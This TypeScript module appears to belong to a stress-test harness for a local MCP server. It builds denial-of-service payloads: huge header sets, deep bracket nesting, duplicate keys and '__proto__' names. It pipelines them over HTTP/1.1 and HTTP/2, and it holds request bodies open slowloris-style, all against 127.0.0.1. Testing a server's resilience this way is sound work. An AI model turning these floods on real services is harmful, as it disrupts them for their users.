/** Floods of tool calls that are as expensive as a body permits; they run in the process of attacker.ts. */
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { addressOf, readStatuses, type Target } from './attacks.ts';

function call(name: string, args: object, params: object = {}): object {
  return { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args, ...params } };
}

function manyHeaders(count: number, length: number): object {
  return Object.fromEntries(Array.from({ length: count }, (_, at) => [`x-header-${at}`, 'v'.repeat(length)]));
}

const product = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Unknown/1.2 ';

/** Bodies of one request each. */
const bodies = {
  '700 headers': () => call('check_headers', { headers: manyHeaders(700, 60) }),
  'a User-Agent of 40 KB': () =>
    call('check_headers', {
      headers: { 'User-Agent': 'a/1 '.repeat(10_000), 'accept-language': 'en;q=0.1,'.repeat(2_000) },
    }),
  'a long User-Agent': () => call('parse_ua', { user_agent: product.repeat(98) }),
  'ten calls of parse_ua': () => Array.from({ length: 10 }, () => call('parse_ua', { user_agent: product.repeat(70) })),
  'ten calls of check_headers': () =>
    Array.from({ length: 10 }, () => call('check_headers', { headers: manyHeaders(90, 40) })),
  '55 KB of metadata': () => call('parse_ua', {}, { _meta: manyHeaders(700, 60) }),
  'too many bytes': () => call('check_headers', { headers: manyHeaders(1_000, 95) }),
  'ten requests for the list of tools': () =>
    Array.from({ length: 10 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'tools/list' })),
  '5,200 capabilities': () => ({
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: {
      protocolVersion: '2025-06-18',
      clientInfo: { name: 'a', version: '1' },
      capabilities: Object.fromEntries(Array.from({ length: 5_200 }, (_, at) => [`a${at}`, {}])),
    },
  }),
  '30,000 brackets': () => '['.repeat(30_000),
  'a batch of 14,000 numbers': () => Array.from({ length: 14_000 }, () => 1),
  '7,000 arguments': () =>
    call('check_headers', Object.fromEntries(Array.from({ length: 7_000 }, (_, at) => [at.toString(36), 1]))),
  'names of Object.prototype': () =>
    '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"__proto__","arguments":{"__proto__":{"a":1},"constructor":{}}}}',
  'the same key 5,000 times': () => `{"jsonrpc":"2.0","method":"ping",${'"id":1,'.repeat(5_000)}"id":1}`,
} satisfies Record<string, () => object | string>;

const textOf = (body: ToolBody): string => {
  const value = bodies[body]();
  return typeof value === 'string' ? value : JSON.stringify(value);
};
export type ToolBody = keyof typeof bodies;
export const toolBodies = Object.keys(bodies) as ToolBody[];

interface ToolFlood extends Target {
  readonly body: ToolBody;
  readonly connections: number;
  /** Pipelined requests of each connection, or streams over HTTP/2. */
  readonly requests: number;
  readonly limitMs: number;
}

/** Pipelines requests on each connection and reads the responses; returns the number of responses with each status. */
export async function callTools({ body, connections, requests, limitMs, httpPort }: ToolFlood) {
  const text = textOf(body);
  const head = `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${text.length}\r\n\r\n`;
  const bytes = Buffer.from((head + text).repeat(requests));
  const statuses: Record<string, number> = {};
  const run = async (): Promise<void> => {
    const socket = connect({ host: '127.0.0.1', port: httpPort, localAddress: addressOf(0) });
    const timer = setTimeout(() => socket.destroy(), limitMs);
    let responses = 0;
    socket.on('error', () => {}).write(bytes);
    readStatuses(socket, (status) => {
      statuses[status] = (statuses[status] ?? 0) + 1;
      responses += 1;
      if (responses >= requests) socket.destroy();
    });
    await new Promise((resolve) => socket.once('close', resolve));
    clearTimeout(timer);
  };
  await Promise.all(Array.from({ length: connections }, run));
  return { statuses };
}

/** The same over HTTP/2, with all requests of a connection in concurrent streams. */
export async function callToolsOverHttp2({ body, connections, requests, limitMs, httpsPort }: ToolFlood) {
  const text = textOf(body);
  const statuses: Record<string, number> = {};
  const run = async (): Promise<void> => {
    const session = openSession(httpsPort);
    const timer = setTimeout(() => session.destroy(), limitMs);
    const request = async (): Promise<void> => {
      const stream = session.request({ ':method': 'POST', ':path': '/mcp', 'content-type': 'application/json' });
      stream
        .on('error', () => {})
        .on('response', ({ ':status': status }) => {
          statuses[`${status}`] = (statuses[`${status}`] ?? 0) + 1;
        });
      stream.end(text);
      stream.resume();
      await new Promise((resolve) => stream.once('close', resolve));
    };
    await Promise.all(Array.from({ length: requests }, request));
    clearTimeout(timer);
    session.destroy();
  };
  await Promise.all(Array.from({ length: connections }, run));
  return { statuses };
}

interface HeldBodies extends Target {
  readonly connections: number;
  /** Requests of each connection, in streams; 0 sends one over HTTP/1. */
  readonly streams: number;
  readonly bytes: number;
  readonly holdMs: number;
}

/** Sends all but the last byte of many bodies and waits; returns the status that an ordinary client gets meanwhile. */
export async function holdBodies({ connections, streams, bytes, holdMs, httpPort, httpsPort }: HeldBodies) {
  const held = await Promise.all(
    Array.from({ length: connections }, (): Promise<Socket | ClientHttp2Session> | ClientHttp2Session =>
      streams === 0 ? holdOverHttp1(httpPort, bytes) : holdOverHttp2(httpsPort, bytes, streams),
    ),
  );
  await delay(holdMs / 2);
  const { status } = await fetch(`http://127.0.0.1:${httpPort}/mcp`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' }),
  });
  await delay(holdMs / 2);
  for (const connection of held) connection.destroy();
  return { status };
}

function holdOverHttp1(port: number, bytes: number): Promise<Socket> {
  const head = `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`;
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: addressOf(0) }, () => {
      socket.resume().write(head + ' '.repeat(bytes - 1));
      resolve(socket);
    });
    socket.on('error', () => resolve(socket));
  });
}

function holdOverHttp2(port: number, bytes: number, streams: number): ClientHttp2Session {
  const session = openSession(port);
  const most = Buffer.alloc(bytes - 1, ' ');
  for (let each = 0; each < streams; each += 1) {
    const stream = session.request({ ':method': 'POST', ':path': '/mcp', 'content-type': 'application/json' });
    stream.on('error', () => {}).resume();
    stream.write(most);
  }
  return session;
}

function openSession(port: number): ClientHttp2Session {
  const tls = { host: '127.0.0.1', port, localAddress: addressOf(0), rejectUnauthorized: false, ALPNProtocols: ['h2'] };
  return connectHttp2(`https://127.0.0.1:${port}`, { createConnection: () => connectTls(tls) }).on('error', () => {});
}
